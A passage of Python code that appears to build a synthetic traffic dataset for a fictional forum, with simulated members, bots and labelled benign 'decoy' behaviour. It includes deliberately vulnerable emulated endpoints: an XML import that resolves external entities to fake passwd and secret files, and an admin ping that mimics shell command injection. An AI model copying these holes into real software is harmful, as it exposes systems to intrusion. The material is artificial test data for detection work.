        b = (rq.body or b'').decode('utf-8', 'replace')
        if not b.lstrip().startswith('<') or b.count('<post>') != b.count('</post>') or '<blog' not in b:
            return 400, {'success': False, 'message': 'Entity: line 1: parser error : Start tag expected, \'<\' not found' if not b.lstrip().startswith('<') else 'Opening and ending tag mismatch: post line 4 and blog'}
        lat, ent = .03, {}
        for n, u in re.findall(r'<!ENTITY\s+%?\s*(\w+)\s+SYSTEM\s+"([^"]*)"', b):
            ent[n] = 'root:x:0:0:root:/root:/bin/ash\nnode:x:1000:1000:Linux User,,,:/home/node:/bin/sh\n' if 'passwd' in u else 'PORT=3000\nJWT_SECRET=' + KEY + '\nMONGO=mongodb://mongo:27017/loft' if '.env' in u else 'loft-1' if 'hostname' in u else ''
            lat += 3 if u.startswith('http') else 0
        out = []
        for t, x in re.findall(r'<post>\s*<title>(.*?)</title>\s*<body>(.*?)</body>', b, re.S):
            x = re.sub(r'&(\w+);', lambda m: ent.get(m.group(1), m.group()), x)
            p = s.new_post(rq.now, rq.user, t[:200], x, ['imported'], True)
            out.append(dict(_id=p['_id'], title=p['title'], excerpt=x[:160]))
        return Rs(200, {'success': True, 'imported': len(out), 'posts': out}, lat=lat)
    @route('POST', '/graphql', auth='none')
    def graphql(s, rq):
        q = str(s.j(rq).get('query', ''))
        if '__schema' in q:
            return 200, {'data': {'__schema': {'queryType': {'name': 'Query'}, 'types': [dict(kind='OBJECT', name=n, fields=[dict(name=f) for f in fs]) for n, fs in (('Query', ['stats', 'topAuthors']), ('Stats', ['users', 'posts', 'comments', 'online']), ('Author', ['username', 'posts', 'email']))]}}}
        if 'stats' not in q: return 400, {'errors': [{'message': 'Syntax Error: Unexpected <EOF>.', 'locations': [{'line': 1, 'column': 1}]}]}
        return 200, {'data': {'stats': dict(users=len(s.users), posts=len(s.posts), comments=len(s.comments), online=s.rng.randint(2, 19))}}
    # --- moderators and administrators
    @route('POST', '/api/reports')
    def nreport(s, rq):
        d = s.doc(s.reports, rq.now, post=str(s.j(rq).get('post')), by=rq.user, reason=str(s.j(rq).get('reason')), open=True)
        return 201, {'success': True, 'id': d['_id']}
    @route('GET', '/api/mod/reports', auth='mod')
    def reports_(s, rq): return 200, {'success': True, 'reports': [d for d in s.reports.values() if d['open']]}
    @route('PUT', '/api/mod/reports/{id}', auth='mod')
    def ereport(s, rq, i): d = s.get(s.reports, i, 'Report'); d['open'] = False; return 200, {'success': True}
    @route('GET', '/api/admin/users', auth='admin')
    def ausers(s, rq): return s.page(rq, list(s.users.values()), 'users', lambda u: dict(s.full(u), banned=u['banned']))
    @route('PUT', '/api/admin/users/{username}/role', auth='admin')
    def arole(s, rq, n):
        if n not in s.users: return 404, {'success': False, 'message': 'User not found'}
        s.users[n]['role'] = s.j(rq).get('role', 'user'); return 200, {'success': True}
    @route('POST', '/api/admin/users/{username}/ban', auth='admin')
    def aban(s, rq, n):
        if n not in s.users: return 404, {'success': False, 'message': 'User not found'}
        s.users[n]['banned'] = bool(s.j(rq).get('banned', True))
        return 200, {'success': True, 'banned': s.users[n]['banned']}
    @route('GET', '/api/admin/stats', auth='admin')
    def astats(s, rq): return 200, {'success': True, 'stats': dict(users=len(s.users), posts=len(s.posts), files=len(s.files), disk='4.1G', node='v16.20.2')}
    @route('GET', '/api/admin/export', auth='admin')
    def aexport(s, rq): return 200, {'success': True, 'notes': list(s.notes.values())[-100:]}
    @route('POST', '/api/admin/ping', auth='admin')
    def ping(s, rq):
        h = str(s.j(rq).get('host', '')); m = re.search(r'[;|&`$\n]+\(?\s*(.+?)\)?`?$', h, re.S)
        base = re.split(r'[;|&`$\n]', h)[0].strip()
        out = f'PING {base} (10.30.5.{len(base) + 3}): 56 data bytes\n64 bytes from 10.30.5.{len(base) + 3}: seq=0 ttl=64 time=0.{s.rng.randint(101, 450)} ms\n\n--- {base} ping statistics ---\n1 packets transmitted, 1 packets received, 0% packet loss\n' if base else ''
        if m:
            c = m.group(1)
            out += 'uid=1000(node) gid=1000(node) groups=1000(node)\n' if c.startswith('id') else 'root:x:0:0:root:/root:/bin/ash\nnode:x:1000:1000:Linux User,,,:/home/node:/bin/sh\n' if 'passwd' in c else 'node_modules\npackage.json\nserver.js\n.env\n' if c.startswith('ls') else 'MONGO=mongodb://mongo:27017/loft\nJWT_SECRET=' + KEY + '\n' if 'env' in c else ''
        return Rs(200, {'success': True, 'output': out}, lat=.06 + (5 if m and 'sleep' in h else 0))


class World:
    """people and their programs"""
    def __init__(w, S, app): w.S, w.app, w.r, w.st = S, app, S.rng, S.start; w.people, w.used = [], Counter()
    def hour(w): return ((w.S.now - w.st) / HOUR + w.S.tz) % 24
    def text(w, n=2): return ' '.join(w.r.choice(SENT) for _ in range(w.r.randint(1, n)))
    def title(w):
        r = w.r
        return r.choice([f'My {r.choice(ADJ)} {r.choice(NOUN)}', f'Question about a {r.choice(ADJ)} {r.choice(NOUN)}', f'{r.choice(NOUN).title()} for sale', f"What's wrong with this {r.choice(NOUN)}?", f'{r.choice(NOUN).title()} & {r.choice(NOUN)}: notes'])
    def home(w):
        r = w.r
        while True:
            a = f'{r.choice(["84.115", "178.191", "91.113", "62.178", "213.47", "80.110"])}.{r.randint(1, 250)}.{r.randint(2, 250)}'
            if not w.used[a]: w.used[a] = 1; return a
    def mobile(w): return f'77.119.{w.r.randint(128, 130)}.{w.r.randint(1, 60)}'
    def device(w, kind):
        r = w.r
        ua = r.choice(BROWSERS) if kind == 'web' else f'LoftApp/{r.choice(["1.8.2", "1.8.2", "1.7.9"])} (Android {r.choice([12, 13, 14])}) okhttp/4.12.0' if kind == 'android' else f'LoftApp/1.8.2 (iOS 17.{r.randint(1, 4)}) ' + IPHONE
        return dict(kind=kind, ua=ua, tok=None, exp=0, etag={}, new=False)
    def person(w, name, pw=None, vol=None, u=None, **k):
        r = w.r
        pw = pw or r.choice([f'{r.choice(WORDS).title()}{r.randint(10, 999)}', f'{r.choice(WORDS)}-{r.choice(WORDS)}', f'{r.choice(NOUN)}{r.randint(1950, 2010)}!'])
        kinds = r.choice([['web'], ['web', 'android'], ['android'], ['web', 'ios'], ['ios']])
        P = dict(n=name, u=w.app.user(name, pw) if u is None else u, know=pw, devs=[w.device(x) for x in kinds], home=w.home(), office=False, vol=vol or r.lognormvariate(-.78, .75), peaks=r.choice([((7.5, 1), (12.5, 1), (20, 1.8)), ((10, 2), (15, 2), (21, 1.5)), ((19.5, 2), (22, 1)), ((12, 3), (18, 2))]), dc=None, away=None, forget=False, mail=r.random() < .08, ip=None, last=[],
                 w=[b * r.lognormvariate(0, .6) for b in (5, .9, 1., 1.5, 1., 1.2, .5, .16, .25, .7)], known=[])
        P.update(k); w.people.append(P); return P
    def client(w, P, dev=None):
        r, h = w.r, w.hour(); wd = time.gmtime(w.S.now).tm_wday < 5
        work = P['office'] and wd and 8.5 < h < 17.5
        if dev is None: dev = next((d for d in P['devs'] if d['kind'] == 'web'), P['devs'][0]) if work and r.random() < .8 else r.choice(P['devs'])
        ip = P['ip'] or (OFFICE if P['office'] == 1 else ORG_IP) if work or P['ip'] else P['home'] if dev['kind'] == 'web' or r.random() < .6 else w.mobile()
        hs = {'Accept-Language': 'de-AT,de;q=0.9,en;q=0.7', 'Referer': f'http://{w.S.host}/'} if dev['kind'] == 'web' else {}
        cl = Client(ip, dev['ua'], P['n'], dc=P['dc'] or ('D-nat' if ip == OFFICE else None), headers=hs)
        cl.dev, cl.P = dev, P; P['u']['ip'] = ip; w.arm(cl); return cl
    @staticmethod
    def arm(cl):
        cl.h.pop('x-access-token', 0), cl.h.pop('Authorization', 0)
        if cl.dev['tok']:
            if cl.dev['kind'] == 'web': cl.h['x-access-token'] = cl.dev['tok']
            else: cl.h['Authorization'] = 'Bearer ' + cl.dev['tok']
    def login(w, cl, name=None, pw=None, **k):
        P = cl.P; cl.dev['tok'] = None; w.arm(cl)
        js = dict(username=name or (P['u']['email'] if P['mail'] else P['n']), password=pw or P['know'])
        if cl.dev['kind'] != 'web': js['remember'] = True
        r = w.S.call(cl, 'POST', '/api/login', js=js, **k)
        if r.st == 200 and isinstance(r.body, dict) and r.body.get('success'):
            cl.dev['tok'], cl.dev['exp'] = r.body['token'], w.S.now + (72 if 'remember' in js else 24) * HOUR
            w.arm(cl)
        return r
    def sign(w, cl):
        """gets a token as people do: typing errors, forgotten passwords; False if it fails"""
        r, P, dev, S = w.r, cl.P, cl.dev, w.S
        if dev['tok'] and dev['exp'] > S.now + 30: return True
        if dev['tok'] and r.random() < .35:
            S.call(cl, 'GET', '/api/me')               # learns that the token is over
            yield .3
        for _ in range(r.randint(4, 6) if P['forget'] and r.random() < .6 else int(r.random() < .06)):
            bad = r.choice([P['know'][:-1], P['know'].swapcase(), P['know'] + r.choice('1!e'), P['know'].replace('-', '')])
            w.login(cl, name=P['n'][:-1] if r.random() < .1 else None, pw=bad if bad != P['know'] else bad + 'x', **({'dc': 'D-forget'} if P['forget'] else {})); yield r.uniform(4, 25)
        for k in range(4):
            x = w.login(cl)
            if dev['tok']: return True
            if x.st == 403: return False
            yield r.uniform(3, 15) if x.st == 200 or x.st == 401 else 8
        x = S.call(cl, 'POST', '/api/password/forgot', js=dict(username=P['n'])); yield r.uniform(25, 120)
        if P['n'] in w.app.codes:
            new = f'{r.choice(WORDS).title()}{r.randint(10, 999)}!'
            if r.random() < .25: S.call(cl, 'POST', '/api/password/reset', js=dict(username=P['n'], code=w.app.codes[P['n']][::-1], newPassword=new)); yield r.uniform(5, 20)
            if ok(S.call(cl, 'POST', '/api/password/reset', js=dict(username=P['n'], code=w.app.codes[P['n']], newPassword=new))): P['know'] = new; yield 3; w.login(cl)
        return bool(dev['tok'])
    def req(w, cl, m, url, **k):
        """one call with what clients do about answers"""
        S, dev = w.S, cl.dev; h = {}
        if m == 'GET' and dev['kind'] == 'web' and url in dev['etag']: h['If-None-Match'] = dev['etag'][url]
        x = S.call(cl, m, url, h=h, **k); n = 0
        while x.st == 500 and isinstance(x.body, dict) and x.body.get('error') == 'MongooseError' and n < 3: yield 2 + 3 * n; n += 1; x = S.call(cl, m, url, **dict(k, dc='D-outage'))
        if x.st == 401:
            if not (yield from w.sign(cl)): return x
            x = S.call(cl, m, url, **k)
        if getattr(x, 'etag', None) and m == 'GET' and dev['kind'] == 'web': dev['etag'][url] = x.etag
        return x
    # --- what people do
    def browse(w, cl):
        r, P = w.r, cl.P; pg = r.choice([1, 1, 1, 1, 2, 2, 3, 5])
        if cl.dev['new']: x = yield from w.req(cl, 'GET', f'/api/feed?page={pg}&limit=20')
        else: x = yield from w.req(cl, 'GET', f'/api/posts?page={pg}&limit=20' + (f'&tag={r.choice(TAGS)}' if r.random() < .2 else ''))
        v = x.body.get('posts') or x.body.get('items') or [] if isinstance(x.body, dict) else []
        for p in r.sample(v, min(len(v), r.randint(1, 3))): yield r.lognormvariate(1.8, .7); yield from w.read(cl, p['_id'])
        if P['last'] and r.random() < .12:
            yield 5
            yield from w.read(cl, r.choice(P['last']))           # a bookmark; may be deleted by now
    def read(w, cl, i):
        r, P = w.r, cl.P; x = yield from w.req(cl, 'GET', f'/api/posts/{i}')
        if not ok(x): return
        p = x.body['post']; P['last'] = (P['last'] + [i])[-12:]
        P['known'] = (P['known'] + [p['author']])[-15:]
        if r.random() < .75:
            yield .05; c = yield from w.req(cl, 'GET', f'/api/posts/{i}/comments')
            if ok(c) and c.body['comments']: P['known'] = (P['known'] + [r.choice(c.body['comments'])['author']])[-15:]
        yield r.lognormvariate(2.6, .8); y = r.random()
        if y < .14: yield from w.req(cl, 'POST', f'/api/posts/{i}/like', js={})
        elif y < .26:
            js = dict(text=w.text(2)); yield from w.req(cl, 'POST', f'/api/posts/{i}/comments', js=js)
            if r.random() < .05:
                yield .2
                yield from w.req(cl, 'POST', f'/api/posts/{i}/comments', js=js)      # double click
        elif y < .36: yield from w.profile(cl, p['author'])
        elif y < .37: yield from w.req(cl, 'POST', '/api/reports', js=dict(post=i, reason=r.choice(['spam', 'rude', 'wrong category'])))
    def profile(w, cl, n=None):
        r, P = w.r, cl.P
        if n is None and (not P['known'] or r.random() < .25):
            x = yield from w.req(cl, 'GET', f'/api/users?page={r.randint(1, 4)}&limit=20')
            if ok(x) and x.body['users']: n = r.choice(x.body['users'])['username']
        n = n or (r.choice(P['known']) if P['known'] else P['n']); yield r.uniform(1, 6); x = yield from w.req(cl, 'GET', '/api/users/' + quote(n))
        if ok(x) and r.random() < .4:
            yield r.uniform(1, 9); x = yield from w.req(cl, 'GET', f'/api/users/{quote(n)}/notes')
            v = [y for y in x.body['notes'] if y['type'] == 'public'] if ok(x) else []
            for y in r.sample(v, min(len(v), r.randint(0, 2))): yield r.uniform(3, 30); yield from w.req(cl, 'GET', f'/api/notes/{y["_id"]}')
    def search(w, cl):
        r = w.r; y = r.random()
        f = {'title': {'$regex': r.choice(NOUN + ADJ + ["o'neill", 'c++', 'cone 6']), '$options': 'i'}} if y < .5 else {'tags': {'$in': r.sample(TAGS, 2)}} if y < .75 else {'author': r.choice(cl.P['known'] or [cl.P['n']])} if y < .9 else {'tags': r.choice(TAGS), 'createdAt': {'$gte': iso(w.S.now - r.randint(1, 30) * DAY)}}
        x = yield from w.req(cl, 'POST', '/api/search', js=dict(filter=f, limit=20))
        if ok(x) and x.body['results'] and r.random() < .7: yield r.uniform(2, 12); yield from w.read(cl, r.choice(x.body['results'])['_id'])
    def notes(w, cl):
        r = w.r; x = yield from w.req(cl, 'GET', '/api/notes?page=1&limit=20')
        v = x.body['notes'] if ok(x) else []; yield r.uniform(1, 8)
        for n in r.sample(v, min(len(v), r.randint(0, 2))):
            yield from w.req(cl, 'GET', f'/api/notes/{n["_id"]}'); yield r.uniform(3, 40)
            if r.random() < .25: yield from w.req(cl, 'PUT', f'/api/notes/{n["_id"]}', js=dict(title=n['title'], body=w.text(3))); yield 2
            elif r.random() < .05: yield from w.req(cl, 'DELETE', f'/api/notes/{n["_id"]}')
        if r.random() < .25:
            yield r.uniform(15, 90); yield from w.req(cl, 'POST', '/api/notes', js=dict(title='' if r.random() < .06 else w.title(), body=w.text(4), type=r.choice(['public', 'secret', 'secret'])))
    def files(w, cl):
        r, P = w.r, cl.P; own = r.random() < .6
        x = yield from w.req(cl, 'GET', '/api/files?page=1&limit=20' if own else '/api/files/shared')
        v = x.body['files'] if ok(x) else []
        for f in r.sample(v, min(len(v), r.randint(0, 2))):
            yield r.uniform(1, 9); yield from w.req(cl, 'GET', f'/api/files/{f["_id"]}'); yield r.uniform(1, 5); yield from w.req(cl, 'GET', f'/api/files/{f["_id"]}/download')
        if r.random() < .2: yield r.uniform(8, 30); yield from w.upload(cl)
    def upload(w, cl, share=None):
        r = w.r; b = f'----WebKitFormBoundary{r.getrandbits(60):015x}'
        n = r.choice([f'firing-log-{r.randint(1, 90)}.csv', f'IMG_{r.randint(1000, 9999)}.jpg', f'{r.choice(NOUN)} (final).pdf'])
        body = f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="{n}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode() + r.randbytes(r.randint(300, 4200)) + f'\r\n--{b}--\r\n'.encode()
        x = yield from w.req(cl, 'POST', '/api/files', body=body, ct='multipart/form-data; boundary=' + b)
        if ok(x) and cl.P['known'] and (share or r.random() < .5):
            yield r.uniform(4, 20); yield from w.req(cl, 'POST', f'/api/files/{x.body["file"]["_id"]}/share', js=dict(username=share or r.choice(cl.P['known'])))
        return x
    def msgs(w, cl):
        r, P = w.r, cl.P; x = yield from w.req(cl, 'GET', '/api/messages?box=in&page=1&limit=20')
        for m in ([m for m in x.body['messages'] if not m['read']][:4] or x.body['messages'][:1]) if ok(x) else []:
            yield r.uniform(1, 10); y = yield from w.req(cl, 'GET', f'/api/messages/{m["_id"]}')
            if ok(y) and r.random() < .35: yield r.uniform(10, 80); yield from w.req(cl, 'POST', '/api/messages', js=dict(to=m['from'], text=w.text(2)))
        if P['known'] and r.random() < .22: yield r.uniform(10, 60); yield from w.req(cl, 'POST', '/api/messages', js=dict(to=r.choice(P['known']), text=w.text(2)))
    def groups(w, cl):
        r, P = w.r, cl.P; x = yield from w.req(cl, 'GET', '/api/groups')
        if not ok(x): return
        g = r.choice(x.body['groups'])['_id']; yield r.uniform(1, 8); y = yield from w.req(cl, 'GET', f'/api/groups/{g}')
        z = r.random(); yield r.uniform(2, 9)
        if z < .2: yield from w.req(cl, 'POST', f'/api/groups/{g}/join', js={})
        elif z < .4 and P['known']: yield from w.req(cl, 'POST', f'/api/groups/{g}/invitations', js=dict(username=r.choice(P['known'])))
        elif z < .7:
            y = yield from w.req(cl, 'GET', '/api/invitations')
            for v in y.body['invitations'][:2] if ok(y) else []: yield 3; yield from w.req(cl, 'POST', f'/api/invitations/{v["_id"]}/accept', js={})
    def edit(w, cl):
        r, P = w.r, cl.P; y = r.random()
        if y < .5: yield from w.req(cl, 'PUT', f'/api/users/{P["n"]}', js=dict(displayName=P['u']['displayName'], bio=w.text(1), location=r.choice(['Graz', 'Linz', 'Wien'])))
        elif y < .75:
            if r.random() < .3: yield from w.req(cl, 'PUT', f'/api/users/{P["n"]}/email', js=dict(email=f'{P["n"]}@mail')); yield 8
            yield from w.req(cl, 'PUT', f'/api/users/{P["n"]}/email', js=dict(email=f'{P["n"]}{r.randint(1, 9)}@{r.choice(["mail", "post"])}.example'))
        else: yield from w.req(cl, 'PUT', f'/api/users/{P["n"]}/avatar', js=dict(url=f'https://{r.choice(["i.imgbox", "cdn.photos", "gravatar", "pics.flickr"])}.example/{r.getrandbits(40):x}.png'))
    def karma(w, cl):
        if cl.P['known']:
            n = w.r.choice(cl.P['known'])
            yield from w.req(cl, 'POST', f'/api/users/{n}/karma', js=dict(amount=w.r.choice([1, 1, 2, 3, 5, 10]), reason='thanks'))
    def write(w, cl):
        r = w.r
        if cl.dev['kind'] == 'web' and r.random() < .5: yield from w.req(cl, 'GET', '/api/activity?page=1&limit=20')
        yield r.uniform(20, 150)
        yield from w.req(cl, 'POST', '/api/posts', js=dict(title='' if r.random() < .05 else w.title(), body=w.text(5), tags=r.sample(TAGS, r.randint(1, 3)), **({'private': True} if r.random() < .15 else {})))
    def session(w, P, n=None, dc=None, dev=None):
        r, S = w.r, w.S
        if P['away'] and P['away'][0] <= (S.now - w.st) / DAY < P['away'][1] or P['n'] not in w.app.users: return
        cl = w.client(P, dev)
        if dc: cl.dc = dc
        if not (yield from w.sign(cl)): return
        new = cl.dev['new']
        if cl.dev['kind'] == 'web':
            if r.random() < .08: S.call(cl, 'GET', '/favicon.ico')
            yield from w.req(cl, 'POST', '/graphql', js=dict(query='{ stats { users posts comments online } }'))
            if r.random() < .5: yield from w.req(cl, 'GET', '/api/activity?page=1&limit=20')
            if w.st + 6.9 * DAY < S.now < w.st + 7.9 * DAY and r.random() < .8: S.call(cl, 'GET', '/api/badges/spring.json')          # a page with a broken link for a day
        else:
            yield from w.req(cl, 'GET', '/api/me')
            if new: yield from w.req(cl, 'GET', '/api/me/badges')
        yield from w.req(cl, 'GET', '/api/notifications')
        acts = [w.browse, w.profile, w.search, w.notes, w.files, w.msgs, w.groups, w.edit, w.karma, w.write]
        for _ in range(n or 1 + min(8, int(r.lognormvariate(.6, .7)))):
            yield r.lognormvariate(2, .9); yield from r.choices(acts, P['w'])[0](cl)
            if S.now > w.app.feature and r.random() < .06: yield from w.req(cl, 'GET', '/api/events')
            if r.random() < .15: yield from w.req(cl, 'GET', '/api/notifications')
        if r.random() < .07: cl.dev['tok'] = None                                      # logs out
        if cl.conn: S.close(cl.conn)
    def live(w, P, first=0):
        for t in w.S.human_starts(P['vol'], peaks=P['peaks'], weekend=w.r.choice([.6, 1, 1.5])):
            if t > w.st + first * DAY: w.S.spawn(t, w.session(P))
    def join(w, P, dc=None, ip=None, extra=None):
        """somebody registers and logs in; P['u'] is made by the application"""
        r, S, n = w.r, w.S, P['n']; cl = w.client(P); cl.dc, cl.ip = dc, ip or cl.ip
        js = dict(username=n, password=P['know'], email=f'{n}@{r.choice(["mail", "post", "inbox"])}.example')
        if dc and r.random() < .3: S.call(cl, 'POST', '/api/register', js=dict(js, password='1234')); yield r.uniform(6, 20)
        if dc and r.random() < .2: S.call(cl, 'POST', '/api/register', js=dict(js, username=n.split('.')[0] if n.split('.')[0] in w.app.users else w.people[5]['n'])); yield r.uniform(6, 20)
        S.call(cl, 'POST', '/api/register', js=dict(js, **(extra or {}))); P['u'] = w.app.users.get(n, P['u']); yield r.uniform(2, 15); w.login(cl); yield 2
        yield from w.req(cl, 'GET', '/api/posts?page=1&limit=20'); yield from w.browse(cl)
        if r.random() < .6: yield r.uniform(20, 90); yield from w.edit(cl)
        return cl


def build(name, seed, attacks, start='2026-03-02', days=12):
    st = ts(start); app = Loft(random.Random(seed + 1), st)
    S = Sim3000(name, 'Loft: community forum with file sharing, synthetic (manner of a training application, Express and MongoDB)', st, days, SERVER, 3000, 'forum.loft.example:3000', app, seed, 1, 'Express style headers, ETag and 304; most failed log-ins answer 200 with success:false. Ordinary profile views in the time of F23 are labelled with it.' if attacks else 'no attack')
    r, w = S.rng, World(S, app); at = S.local; app.fields, app.feature = at(6, 5), at(9, 6)
    app.dbdown = [(at(3, 20), at(3, 20.75))]
    if attacks: app.growth = (at(8, 10), at(10, 18))
    D = lambda i, k, d: S.decoy(i, k, d)
    D('D-nat', 'shared_nat', 'ten members who work in one office come from one NAT address by day')
    D('D-batch', 'nightly_batch', 'internal back-up job reads members, posts, notes and files every night at 01:30 with the service account')
    D('D-crawl', 'legit_crawler', 'search engine crawler reads public posts without token every night at 03:10 since day 0')
    D('D-probe', 'monitor_probe', 'GET /api/health every 5 minutes from an outside monitoring service')
    D('D-peak', 'flash_peak', 'day 5 (Saturday) 19:00-21:00: everybody follows a question evening in one post')
    D('D-pwday', 'password_change_day', 'day 8: members are asked to change the password; some mistype the old one and log in with the old one after')
    D('D-roam', 'roaming_user', 'day 5-7: a member travels: same devices, three foreign networks')
    D('D-share', 'family_sharing', 'three members read one file of a friend every day since day 0')
    D('D-forget', 'forgetful_user', 'two members mistype the password 4 to 6 times, then log in or reset it by code')
    D('D-app', 'new_app_version', 'day 6-8: app users get version 1.9.0 which calls /api/feed and /api/me/badges (first session labelled)')
    D('D-reg', 'new_signups', 'newcomers register, one to three a day, with ordinary mistakes')
    D('D-mod', 'moderator_reads_all', 'a moderator reads every new post, its comments, the author and the uploaded files, daily since day 0')
    D('D-import', 'bulk_import', 'day 4: a member imports an old blog by 45 XML documents with entities, CDATA and code samples')
    D('D-bot', 'hourly_bot', 'a weather bot reads its thread and posts a comment every hour')
    D('D-scan', 'internal_security_scan', "day 9: the association's own ZAP scan from the internal network, announced, without token")
    D('D-export', 'own_data_export', 'day 10: a heavy member pulls all own notes, files and messages by script from the own home')
    D('D-outage', 'outage_retries', 'day 3 20:00-20:45: the database is away, answers are 500 after 10 s, clients try again')
    D('D-newmod', 'promoted_moderator', 'day 6: an ordinary member becomes moderator and starts to use moderator functions')
    # --- people and history
    nm = iter(r.sample(names(r, 90), 90))
    admin = w.person('ivo_admin', vol=.7, office=2, u=app.user('ivo_admin', 'Kiln!Master#81', 'admin'), devs=[w.device('web')])
    mod = w.person('mara_mod', vol=.8, office=2, u=app.user('mara_mod', 'celadon-7782', 'moderator'), devs=[w.device('web')], dc='D-mod')
    mod2 = w.person('sven_mod', vol=.9, u=app.user('sven_mod', 'tenmoku_1312', 'moderator'))
    mod['know'], mod2['know'], admin['know'] = 'celadon-7782', 'tenmoku_1312', 'Kiln!Master#81'
    M = [w.person(next(nm), office=int(i < 10)) for i in range(46)]
    app.user('svc-backup', 'b7-Backup-Xq81', 'admin'); app.user('weatherbot', 'w3ather-b0t-key')
    idle = [w.person(next(nm), vol=.01) for _ in range(4)]                  # asleep accounts
    M[13]['vol'], M[17]['vol'], M[20]['vol'], M[25]['vol'], M[30]['vol'] = 5.5, 1.6, 1.3, 1.2, 1.5
    M[11]['forget'] = M[12]['forget'] = True
    for i in (14, 15, 16): M[i]['away'] = (r.uniform(2, 4), r.uniform(6.5, 9))
    for P in M[:10]: P['vol'] = max(P['vol'], r.uniform(.8, 1.8))
    past = sorted(st - r.random() ** 1.4 * 70 * DAY for _ in range(900)); who = M + idle + [mod, mod2]
    wt = [p['vol'] for p in who]
    for t in past:
        P = r.choices(who, wt)[0]; y = r.random()
        if y < .26: app.new_post(t, P['n'], w.title(), w.text(5), r.sample(TAGS, r.randint(1, 3)), r.random() < .12)
        elif y < .5 and app.posts:
            i = r.choice(list(app.posts)[-12:])
            c = app.doc(app.comments, t, post=i, author=P['n'], text=w.text(2))
            app.by['comment', i].append(c['_id'])
            app.act.append(dict(type='comment', user=P['n'], at=iso(t), ref=c['_id']))
        elif y < .72: app.new_note(t, r.choice(who)['n'], w.title(), w.text(4), r.choice(['public', 'secret', 'secret']))
        elif y < .86: app.new_file(t, r.choice(who)['n'], r.choice([f'IMG_{r.randint(1000, 9999)}.jpg', f'{r.choice(NOUN)}.pdf']), r.randint(600, 5000))
        else: app.new_msg(t, P['n'], r.choice(who)['n'], w.text(2))['read'] = r.random() < .8
    for k in range(34):                                                     # the one who exports has much
        app.new_note(st - 9000 + k * 60, M[19]['n'], w.title(), w.text(6), 'secret')
        app.new_file(st - 8970 + k * 60, M[19]['n'], f'IMG_{4000 + k}.jpg', r.randint(900, 4000)) if k % 2 else 0
    gift = app.new_file(st - 5000, M[22]['n'], 'shared shopping list.csv', 900)
    gift['sharedWith'] = [M[i]['n'] for i in (23, 24, 26)]
    weather = app.new_post(st - 4000, 'weatherbot', 'Kiln weather, every hour', 'Hourly weather for wood firings.', ['firing'])['_id']
    for k, g in enumerate(('Wood firing', 'Glaze chemistry', 'Market team', 'Studio Graz', 'Beginners')):
        app.doc(app.groups, st - 3000 + k, name=g, members=[p['n'] for p in r.sample(who, r.randint(4, 14))])
    for P in w.people:
        P['known'] = [x['n'] for x in r.sample(M, 5)]
        for d in P['devs']:
            if r.random() < .6:                                             # logged in before the capture starts
                t = st - r.uniform(1, 20) * HOUR
                d['tok'], d['exp'] = app.issue(P['u'], t, d['kind'] != 'web'), t + (72 if d['kind'] != 'web' else 24) * HOUR
    for P in M + [mod, mod2, admin] + idle: w.live(P)
    for i in (13, 21, 33):                                                  # in the middle of the outage
        S.spawn(at(3, r.uniform(19.97, 20.5)), w.session(M[i], 6))
    # --- newcomers
    def newcomer(P, t): yield from w.join(P, 'D-reg'); w.live(P, (t - st) / DAY)
    for d in range(days):
        for _ in range(r.choice([1, 1, 2, 2])):
            t = at(d, r.uniform(9, 22)); P = w.person(next(nm), u={}, vol=r.uniform(.3, 1.6))
            S.spawn(t, newcomer(P, t))
    # --- machines
    def probe():
        cl = Client('216.144.250.150', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', None, dc='D-probe')
        while True: S.call(cl, 'GET', '/api/health'); yield 300
    S.spawn(st + 20, probe())
    def crawl():
        cl = Client('66.249.70.34', 'Mozilla/5.0 (compatible; ForageBot/2.1; +http://forage.example/bot.html)', None, dc='D-crawl')
        for d in range(days):
            yield max(1, at(d, 3.2) - S.now); S.call(cl, 'GET', '/robots.txt')
            for pg in (1, 2, 3, 4):
                v = S.call(cl, 'GET', f'/api/posts?page={pg}').body.get('posts', [])
                for p in r.sample(v, min(len(v), 9)): yield r.uniform(2, 9); S.call(cl, 'GET', f'/api/posts/{p["_id"]}')
            for p in r.sample(list(app.posts), 4) + [f'{int(st - 90 * DAY):08x}{app.mach}00a1{d:02x}']: yield 4; S.call(cl, 'GET', f'/api/posts/{p}')
    S.spawn(st + 3, crawl())
    def batch():
        cl = Client('10.30.5.9', 'loft-backup/0.9 node-fetch/2.6.7', 'svc-backup', dc='D-batch')
        for d in range(days):
            yield max(1, at(d, 1.5) - S.now); cl.h = {}
            cl.h['x-access-token'] = S.call(cl, 'POST', '/api/login', js=dict(username='svc-backup', password='b7-Backup-Xq81')).body.get('token')
            for u in ('/api/admin/stats', '/api/admin/users?page=1&limit=100', '/api/admin/export', '/api/posts?page=1&limit=100', '/api/posts?page=2&limit=100'):
                S.call(cl, 'GET', u); yield r.uniform(.5, 2)
            for f in S.call(cl, 'GET', '/api/files?all=1&page=1&limit=60').body['files'][:45]: yield r.uniform(.3, 2); S.call(cl, 'GET', f'/api/files/{f["_id"]}/download')
    S.spawn(st + 4, batch())
    def bot():
        cl = Client('185.65.234.12', 'python-requests/2.31.0', 'weatherbot', dc='D-bot'); k = 0
        while True:
            if k % 20 == 0:
                cl.h = {}
                cl.h['Authorization'] = 'Bearer ' + str((S.call(cl, 'POST', '/api/login', js=dict(username='weatherbot', password='w3ather-b0t-key')).body or {}).get('token'))
            S.call(cl, 'GET', f'/api/posts/{weather}'); yield 1
            S.call(cl, 'POST', f'/api/posts/{weather}/comments', js=dict(text=f'{r.randint(-4, 15)} C, wind {r.randint(0, 40)} km/h from {r.choice(["N", "NW", "W", "S"])}, humidity {r.randint(40, 95)}%'))
            k += 1; yield 3599
    S.spawn(st + 605, bot())
    # --- staff
    def modday(P, dc, files=True):
        cl = w.client(P); cl.dc = dc
        if not (yield from w.sign(cl)): return
        x = yield from w.req(cl, 'GET', '/api/mod/reports')
        for d in x.body['reports'] if ok(x) else []:
            yield r.uniform(5, 40); y = yield from w.req(cl, 'GET', f'/api/posts/{d["post"]}')
            if ok(y) and r.random() < .25: yield r.uniform(5, 20); yield from w.req(cl, 'DELETE', f'/api/posts/{d["post"]}')
            yield 3; yield from w.req(cl, 'PUT', f'/api/mod/reports/{d["_id"]}', js=dict(open=False))
        for i in [i for i, p in app.posts.items() if p['createdAt'] > iso(S.now - DAY)][:25]:
